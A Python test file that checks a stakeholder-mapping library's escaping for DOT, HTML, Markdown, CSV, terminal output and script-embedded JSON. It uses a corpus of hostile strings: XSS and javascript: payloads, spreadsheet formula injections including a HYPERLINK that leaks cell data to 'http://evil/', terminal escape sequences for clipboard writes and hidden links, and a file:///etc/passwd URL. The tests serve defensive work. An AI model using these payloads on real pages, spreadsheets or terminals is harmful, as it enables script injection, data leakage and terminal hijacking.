"""Escaping, checked in each target's own language on a corpus of hostile text.

Each function of ``stakemap.escape`` is judged by what reads its output: the real ``dot``
for DOT, a CommonMark renderer for Markdown, the csv module for CSV, an HTML parser for
HTML, the bytes a terminal would receive for tables. Each target also has a negative
control: the same text unescaped really does something in that language, so the checks
are able to fail.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import xml.etree.ElementTree as ET
from datetime import date
from html.parser import HTMLParser

import graphviz  # type: ignore[import-untyped]
import pytest
from markdown_it import MarkdownIt
from rich.console import Console
from rich.text import Text
from stakemap_cli.tables import plain_table, print_gaps, print_plain, print_rich

import stakemap
from stakemap.analysis.summary import summarize
from stakemap.escape import (
    csv_cell,
    dot_html,
    dot_string,
    html_attribute,
    html_text,
    markdown_code,
    markdown_text,
    safe_url,
    terminal_text,
)
from stakemap.render import render, report

AS_OF = date(2026, 11, 1)
SVG = "{http://www.w3.org/2000/svg}"

FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://evil/?"&A1,"click")', "\uff1d1+1", "=cmd|'/c calc'!A1"]
HTML = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>', "' onmouseover='alert(1)", "&lt;script&gt;", "&amp;",
        '<a href="javascript:alert(1)">click</a>', "<!-- comment -->", "</td></tr></table>"]
MARKDOWN = ["[x](javascript:alert(1))", "![x](http://evil/)", "<b>bold</b>", "| pipe |",
            "`code`", "``double``", "*em* _em_ **strong**", "# heading", "> quote",
            "- list", "1. ordered", "---", "~~struck~~", "<http://evil/>",
            "[x]: javascript:alert(1)", "\\", "back\\slash", "[x][1]", "&#106;avascript"]
DOT = ['"', "\\", "\\N", "\\G\\l\\n", "<Ops>", "<<B>x</B>>", "]", "]]", ";", "}", "{", "a -> b",
       '"; x [label="evil"]; "', '<<A HREF="javascript:alert(1)">click</A>>',
       '<TABLE><TR><TD HREF="javascript:alert(1)">x</TD></TR></TABLE>', "end\\",
       '<<TABLE><TR><TD HREF="javascript:alert(1)">link</TD></TR></TABLE>>']
TERMINAL = ["\x1b]52;c;ZWNobyBwd25lZA==\x07", "\x1b]8;;http://x\x1b\\click\x1b]8;;\x1b\\",
            "\x1b[2J", "\x1b[31mred", "\r", "over\rwrite", "\x00", "bell\x07", "\x9b2J",
            "\u202eevil\u202c", "\u2066isolate\u2069", "back\x08space", "del\x7f", "tab\tcell",
            "new\nline", "\x1bP+q\x1b\\", "\u2028sep"]
ORDINARY = ["李娜 (Li Na)", "שלום", "مرحبا", "👨\u200d👩\u200d👧 family", "Zoë O'Neil",
            "Backup & Recovery", "Ärzte GmbH & Co. KG", "ERP-Hosting v2.0", "Jean-Luc (CTO)"]
CORPUS = FORMULAS + HTML + MARKDOWN + DOT + TERMINAL + ORDINARY
"""Every hostile string, plus ordinary text in several scripts that must come out intact."""

CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")


def _plain(text: str) -> str:
    """What the non-terminal targets should show: control characters gone, tab a space."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ")
    return CONTROL.sub(lambda m: m.group() if m.group() == "\n" else "", text)


def test_the_corpus_is_big_and_varied() -> None:
    assert len(set(CORPUS) - set(ORDINARY)) >= 40
    assert all(isinstance(s, str) and s for s in CORPUS)


# -- DOT -----------------------------------------------------------------------------------


def _svg_nodes(source: str) -> dict[str, str]:
    """node name -> its label's text, from the SVG the real dot writes."""
    svg = ET.fromstring(graphviz.Source(source).pipe("svg"))
    nodes = {}
    for group in svg.iter(f"{SVG}g"):
        if group.get("class") == "node":
            title = group.find(f"{SVG}title")
            assert title is not None
            texts = [t.text or "" for t in group.iter(f"{SVG}text")]
            nodes[title.text or ""] = "\n".join(texts)
    return nodes


_XLINK = "{http://www.w3.org/1999/xlink}"


def _assert_no_links(svg: bytes, *, tooltips: bool = False) -> None:
    """No link anywhere in the SVG: no ``href`` on any element, no ``javascript:`` in any
    attribute. Without tooltips, no ``<a>`` element at all; with them, Graphviz wraps each
    tooltip in an ``<a xlink:title=...>`` that has no target, which is all that may appear."""
    root = ET.fromstring(svg)
    anchors = list(root.iter(f"{SVG}a"))
    if not tooltips:
        assert not anchors
    for element in root.iter():
        for name, value in element.attrib.items():
            assert name not in ("href", f"{_XLINK}href"), (element.tag, value)
            assert "javascript:" not in value.lower() or name == f"{_XLINK}title", value
    for anchor in anchors:
        assert set(anchor.attrib) <= {f"{_XLINK}title"}, anchor.attrib


def test_dot_string_keeps_every_name_as_text_in_real_dot() -> None:
    lines = ["digraph g {"]
    for i, text in enumerate(CORPUS):
        lines.append(f"  n{i} [label={dot_string(text)}];")
        lines.append(f"  {dot_string(text)};")  # a node named by the hostile text itself
    source = "\n".join([*lines, "}"])
    _assert_no_links(graphviz.Source(source).pipe("svg"))
    tipped = ["digraph g {", *(f"  t{i} [tooltip={dot_string(text)}];"
                               for i, text in enumerate(CORPUS)), "}"]
    _assert_no_links(graphviz.Source("\n".join(tipped)).pipe("svg"), tooltips=True)
    nodes = _svg_nodes(source)
    for i, text in enumerate(CORPUS):
        expected = [line.strip() for line in _plain(text).split("\n")]
        shown = [line.strip() for line in nodes[f"n{i}"].split("\n")]
        assert [x for x in shown if x] == [x for x in expected if x], text


def test_dot_html_keeps_every_name_as_text_in_an_html_like_label() -> None:
    lines = ["digraph g {"]
    lines += [f"  n{i} [label=<<B>{dot_html(text)}</B>>];" for i, text in enumerate(CORPUS)]
    source = "\n".join([*lines, "}"])
    svg = graphviz.Source(source).pipe("svg")
    _assert_no_links(svg)
    nodes = _svg_nodes(source)
    for i, text in enumerate(CORPUS):
        expected = [line.strip() for line in _plain(text).split("\n")]
        # the word joiner that keeps Graphviz from expanding a user's \N is invisible
        shown = [line.replace("\u2060", "").strip() for line in nodes[f"n{i}"].split("\n")]
        assert [x for x in shown if x] == [x for x in expected if x], text


def test_dot_negative_controls_unescaped_text_is_live_in_dot() -> None:
    link = '<TABLE><TR><TD HREF="javascript:alert(1)">click</TD></TR></TABLE>'
    svg = graphviz.Source(f"digraph {{ a [label=<{link}>]; }}").pipe("svg")
    assert list(ET.fromstring(svg).iter(f"{SVG}a"))  # a live link: the check can fail
    with pytest.raises(graphviz.CalledProcessError):  # <Ops> as markup stops dot
        graphviz.Source("digraph { a [label=<<Ops>>]; }").pipe("svg", quiet=True)
    with pytest.raises(subprocess.CalledProcessError):  # an unescaped quote ends the string
        graphviz.Source('digraph { a [label="x"y"]; }').pipe("svg", quiet=True)


def _hostile_graph(names: list[str]) -> stakemap.StakeholderGraph:
    """One account where every name, title and tier is hostile: a customer, our team with a
    role, a left person, a decider, a service, an agreement, relationships."""
    g = stakemap.StakeholderGraph()
    g.add_organization("us", names[0], type="provider")
    g.add_customer("c1", names[1 % len(names)], phase="operations", tier=names[2 % len(names)])
    g.add_service("s1", names[3 % len(names)], provider="us")
    g.consume("c1", "s1", vital=True)
    for i, name in enumerate(names):
        side = "c1" if i % 2 else "us"
        g.add_person(f"p{i}", name, organization=side, title=names[(i + 1) % len(names)],
                     stance="blocker" if i % 4 == 1 else "champion", influence=1 + i % 5,
                     interest=1 + (i * 3) % 5)
        if side == "us":
            g.assign_role(f"p{i}", "account-manager", at="c1")
    g.relate("p0", "p1", strength=0.5, sentiment="positive", last_contact=date(2020, 1, 1))
    return g


HOSTILE_NAMES = [s for s in CORPUS if s.strip() and _plain(s).strip()]


def test_a_diagram_whose_every_name_is_hostile_renders_without_links() -> None:
    graph = _hostile_graph(HOSTILE_NAMES)
    diagram = render(graph, customer="c1", as_of=AS_OF)
    svg = graphviz.Source(diagram.source).pipe("svg")
    _assert_no_links(svg, tooltips=True)  # every node has its id as tooltip
    texts = " ".join(t.text or "" for t in ET.fromstring(svg).iter(f"{SVG}text"))
    assert "<script>alert(1)</script>" in texts
    assert "<Ops>" in texts
    assert "李娜 (Li Na)" in texts
    heatmap = render(graph, as_of=AS_OF)  # account names in an HTML-like table
    svg = graphviz.Source(heatmap.source).pipe("svg")
    _assert_no_links(svg, tooltips=True)
    overview = render(graph, as_of=AS_OF, view="overview")  # plain-string person labels
    svg = graphviz.Source(overview.source).pipe("svg")
    _assert_no_links(svg, tooltips=True)
    texts = " ".join(t.text or "" for t in ET.fromstring(svg).iter(f"{SVG}text"))
    for name in HOSTILE_NAMES[::2]:  # our team: every one of them a plain-string label
        assert " ".join(_plain(name).split()) in " ".join(texts.split()), name


# -- HTML ------------------------------------------------------------------------------------


class _Page(HTMLParser):
    """Every tag, attribute and text run an HTML parser sees."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _parse(markup: str) -> _Page:
    page = _Page()
    page.feed(markup)
    page.close()
    return page


@pytest.mark.parametrize("text", CORPUS)
def test_html_text_and_attribute_stay_text(text: str) -> None:
    page = _parse(f'<p title="{html_attribute(text)}" class=\'{html_attribute(text)}\'>'
                  f"{html_text(text)}</p>")
    assert [tag for tag, _ in page.tags] == ["p"]
    assert page.tags[0][1] == [("title", _plain(text).replace("\n", " ")),
                               ("class", _plain(text).replace("\n", " "))]
    assert "".join(page.text) == _plain(text)
    assert not page.comments


def test_html_negative_control() -> None:
    page = _parse(f'<p title="{HTML[2]}">{HTML[0]}{HTML[1]}</p>')
    assert {"script", "img", "svg"} <= {tag for tag, _ in page.tags}


@pytest.mark.parametrize("url", ["http://example.com/a?b=1", "https://example.com",
                                 "HTTPS://EXAMPLE.COM/", "mailto:kam@example.com"])
def test_safe_url_keeps_web_and_mail_links(url: str) -> None:
    assert safe_url(url) == url


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)",
                                 "java\tscript:alert(1)", " javascript:alert(1)",
                                 "\x00javascript:alert(1)", "java\nscript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>",
                                 "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example",
                                 "/relative", "relative/path", "http:evil", "https:",
                                 "mailto:", "", "ftp://example.com"])
def test_safe_url_refuses_everything_else(url: str) -> None:
    assert safe_url(url) is None


# -- Markdown --------------------------------------------------------------------------------

_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_MARKDOWN.validateLink = lambda url: True  # type: ignore[method-assign]
"""A renderer as lax as the laxest wiki: it would link any scheme, so escaping alone has to
keep ``javascript:`` links out."""
_TABLE_TAGS = {"table", "thead", "tbody", "tr", "th", "td"}


def _no_markup_from(text: str, rendered: str, allowed: set[str]) -> _Page:
    page = _parse(rendered)
    assert {tag for tag, _ in page.tags} <= allowed, (text, rendered)
    for _, attrs in page.tags:
        for name, value in attrs:
            assert name not in ("href", "src"), (text, rendered)
            assert "javascript:" not in (value or "").lower(), (text, rendered)
    assert not page.comments
    return page


@pytest.mark.parametrize("text", CORPUS)
def test_markdown_text_renders_as_the_text_itself(text: str) -> None:
    flat = " ".join(_plain(text).split("\n"))
    # in a paragraph, after fixed text and at the start of a line
    for before in ("x ", ""):
        rendered = _MARKDOWN.render(f"{before}{markdown_text(text)} y\n")
        page = _no_markup_from(text, rendered, {"p"})
        assert "".join(page.text).strip() == f"{before}{flat} y".strip(), rendered
    # in a table cell: the row keeps its two columns
    rendered = _MARKDOWN.render(f"| a | b |\n|---|---|\n| {markdown_text(text)} | z |\n")
    page = _no_markup_from(text, rendered, _TABLE_TAGS)
    assert [tag for tag, _ in page.tags].count("td") == 2
    cells = [t for t in page.text if t.strip()]
    assert cells[-1] == "z"
    assert "".join(cells[2:-1]).strip() == flat.strip()


@pytest.mark.parametrize("text", CORPUS)
def test_markdown_code_is_one_code_span(text: str) -> None:
    rendered = _MARKDOWN.render(f"| a | b |\n|---|---|\n| {markdown_code(text)} | z |\n")
    page = _no_markup_from(text, rendered, _TABLE_TAGS | {"code"})
    assert [tag for tag, _ in page.tags].count("code") == 1
    assert [tag for tag, _ in page.tags].count("td") == 2


def test_ordinary_markdown_is_unchanged() -> None:
    for text in [*ORDINARY, "high -45, medium -7", "2026-05-04", "Q3 review: 3 of 4"]:
        assert markdown_text(text) == text
    assert markdown_code("northwind") == "`northwind`"


def test_markdown_negative_control() -> None:
    rendered = _MARKDOWN.render("x [x](javascript:alert(1)) <b>bold</b> ![i](http://evil/)\n")
    assert 'href="javascript:' in rendered
    assert {"a", "b", "img"} <= {tag for tag, _ in _parse(rendered).tags}


# -- CSV ---------------------------------------------------------------------------------------

_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet reads as the start of a formula, full-width forms included."""


def _csv_rows(rows: list[list[str]], lineterminator: str = "\n") -> list[list[str]]:
    """Written as ``GapReport.to_csv`` writes, read back by the csv module."""
    out = io.StringIO()
    csv.writer(out, lineterminator=lineterminator).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_csv_cells_never_start_a_formula() -> None:
    parsed = _csv_rows([[csv_cell(text), "x"] for text in CORPUS])
    assert len(parsed) == len(CORPUS)
    for text, row in zip(CORPUS, parsed, strict=True):
        assert not row[0].startswith(_FORMULA), row
        same = text.replace("\r\n", "\n").replace("\r", "\n")  # a lone \r is a line break
        assert row[0] in (same, "'" + same)  # nothing lost, at most a quote in front
        assert row[1] == "x"
    assert csv_cell("Backup & Recovery") == "Backup & Recovery"
    assert csv_cell("-2") == "'-2"


def test_csv_negative_control() -> None:
    parsed = _csv_rows([[text] for text in FORMULAS], lineterminator="\r\n")
    assert all(row[0].startswith(_FORMULA) for row in parsed)


def test_gap_report_csv_and_markdown_of_a_hostile_portfolio() -> None:
    g = stakemap.StakeholderGraph()
    g.add_organization("us", "Us", type="provider")
    for i, name in enumerate(FORMULAS[:4] + MARKDOWN[:4]):
        g.add_customer(f"c{i}", name, phase="operations")
        g.add_service(f"s{i}", name, provider="us")
        g.consume(f"c{i}", f"s{i}")
    gaps = stakemap.find_gaps(g, as_of=AS_OF)
    rows = list(csv.reader(io.StringIO(gaps.to_csv())))
    assert len(rows) == len(gaps.findings) + 1
    assert all(not cell.startswith(_FORMULA) for row in rows for cell in row)
    assert "'=1+1" in {row[4] for row in rows}
    rendered = _MARKDOWN.render(gaps.to_markdown())
    page = _no_markup_from("", rendered, _TABLE_TAGS | {"h1", "h2", "p", "code", "ol", "li"})
    assert "[x](javascript:alert(1))" in "".join(page.text)


# -- terminal ----------------------------------------------------------------------------------


def _assert_terminal_safe(output: str) -> None:
    assert not CONTROL.search(output.replace("\n", "")), repr(output)
    data = output.encode("utf-8")
    for byte in (0x1B, 0x07, 0x00, 0x08, 0x0D, 0x7F):
        assert byte not in data, repr(output)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", output)


@pytest.mark.parametrize("text", CORPUS)
def test_terminal_text_shows_control_characters(text: str) -> None:
    shown = terminal_text(text)
    assert not CONTROL.search(shown)
    _assert_terminal_safe(shown)


def test_terminal_text_keeps_ordinary_unicode_and_shows_escapes() -> None:
    for text in ORDINARY:
        assert terminal_text(text) == text
    assert terminal_text("\x1b[2J") == "\\x1b[2J"
    assert terminal_text("a\tb\nc\rd") == "a\\tb\\nc\\rd"
    assert terminal_text("\x9b\u202e") == "\\x9b\\u202e"


def _console() -> Console:
    return Console(file=io.StringIO(), force_terminal=True, color_system=None, width=400,
                   record=True)


def test_tables_send_no_escape_sequence_rich_or_plain(capsys: pytest.CaptureFixture[str]) -> None:
    # the customer is named by the hidden-link sequence, our company by the clipboard one
    names = [TERMINAL[0], TERMINAL[1], TERMINAL[2], TERMINAL[3], *HOSTILE_NAMES]
    graph = _hostile_graph(names)
    summary = summarize(graph.snapshot())
    gaps = stakemap.find_gaps(graph, as_of=AS_OF)
    console = _console()
    print_rich(summary, console=console)
    print_gaps(gaps, rich=True, console=console)
    rich_out = console.export_text()
    _assert_terminal_safe(rich_out)
    assert "\\x1b]8;;http://x\\x1b\\click" in rich_out  # shown, not sent
    assert "\\x1b[31mred" in rich_out
    print_plain(summary)
    print_gaps(gaps, rich=False)
    plain = capsys.readouterr().out
    _assert_terminal_safe(plain)
    assert "\\x1b]8;;http://x\\x1b\\click" in plain
    assert "\\x1b[31mred" in plain
    table = plain_table(["name"], [[text] for text in CORPUS])
    _assert_terminal_safe(table)
    assert len(table.splitlines()) == len(CORPUS) + 1  # one line per row


def test_terminal_negative_control() -> None:
    console = _console()
    console.print(Text("\x1b]52;c;ZWNobw==\x07 \x1b[2J"))
    with pytest.raises(AssertionError):
        _assert_terminal_safe(console.export_text())
    with pytest.raises(AssertionError):
        _assert_terminal_safe(plain_table(["x"], [["ok"]]) + "\x1b[2J")


# -- the review pack, end to end ---------------------------------------------------------------


def test_review_pack_markdown_of_a_hostile_portfolio_has_no_markup_or_links() -> None:
    pack = report(_hostile_graph(HOSTILE_NAMES), customer="c1", as_of=AS_OF)
    rendered = _MARKDOWN.render(pack.markdown())
    # "em": the coverage matrix's vacant seats are the pack's own emphasis around escaped text
    _no_markup_from("", rendered, _TABLE_TAGS | {"h1", "h2", "h3", "p", "code", "ul", "ol", "li",
                                                 "strong", "s", "em"})


# -- JSON inside a script element -------------------------------------------------------------

@pytest.mark.parametrize("text", [*CORPUS, "</SCRIPT >", "<!--<script>", "\u2028\u2029",
                                  "</script\n>"])
def test_script_json_cannot_end_its_element_and_reads_back(text: str) -> None:
    import json

    from stakemap.escape import script_json

    value = {"name": text, "list": [text, 1, None], text: True}
    encoded = script_json(value)
    for char in "<>&\u2028\u2029":
        assert char not in encoded
    # the browser ends the element at the first "</script"; there is none, so the parser
    # hands JSON.parse exactly this text, which reads back every string (controls removed)
    assert json.loads(encoded) == json.loads(json.dumps(
        {"name": _plain(text), "list": [_plain(text), 1, None], _plain(text): True}))



def test_script_json_leaves_ordinary_text_as_json_writes_it() -> None:
    import json

    from stakemap.escape import script_json

    # only "&" is written differently (it means nothing there, but nothing in HTML either)
    assert script_json(ORDINARY).replace("\\u0026", "&") == json.dumps(
        ORDINARY, ensure_ascii=False, separators=(",", ":"))
